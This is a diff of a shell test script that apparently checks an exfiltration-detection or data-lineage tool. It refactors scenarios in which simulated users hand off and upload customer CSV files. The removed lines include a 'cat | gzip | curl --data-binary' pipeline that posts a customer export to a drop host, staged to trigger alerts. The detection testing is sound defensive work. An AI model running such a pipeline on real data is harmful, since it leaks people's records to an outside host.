@@ -14,11 +14,7 @@
 . "$LIB/lineage_fixture.sh"
 
 echo "hand-off: alice copies an export to the shared folder, bob uploads it"
-in_session 1101 "$T/alice.info" cp "$SRC/customers-part1.csv" "$SHARE/for-bob.csv" ||
-	die "alice workload"
-in_session 1102 "$T/bob.info" bash -c "$(upload "$SHARE/for-bob.csv")" || die "bob workload"
-A=$(info_session "$T/alice.info"); B=$(info_session "$T/bob.info")
-wait_alert --session "$B"
+handoff
 check "bob: derived exfiltration naming alice's session" \
 	"$(derived --user bob --session "$B" --origin-session "$A" --origin-user alice \
 		--hand-off true --destination $DROP)" 1
@@ -55,11 +51,7 @@ check "the restore was logged" "$(grep -c 'derived-file labels restored' "$T/dae
 	awk '{print ($1 > 0)}')" 1
 
 echo "pipeline: carol runs cat | gzip | curl"
-in_session 1103 "$T/carol.info" bash -c \
-	"cat $SRC/customers-part2.csv | gzip -1 | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
-	die "carol workload"
-C=$(info_session "$T/carol.info")
-wait_alert --session "$C"
+pipeline
 check "carol: derived exfiltration, her own data, no hand-off" \
 	"$(derived --user carol --session "$C" --origin-session "$C" --hand-off false)" 1
 check "carol: the chain goes through the pipes" \
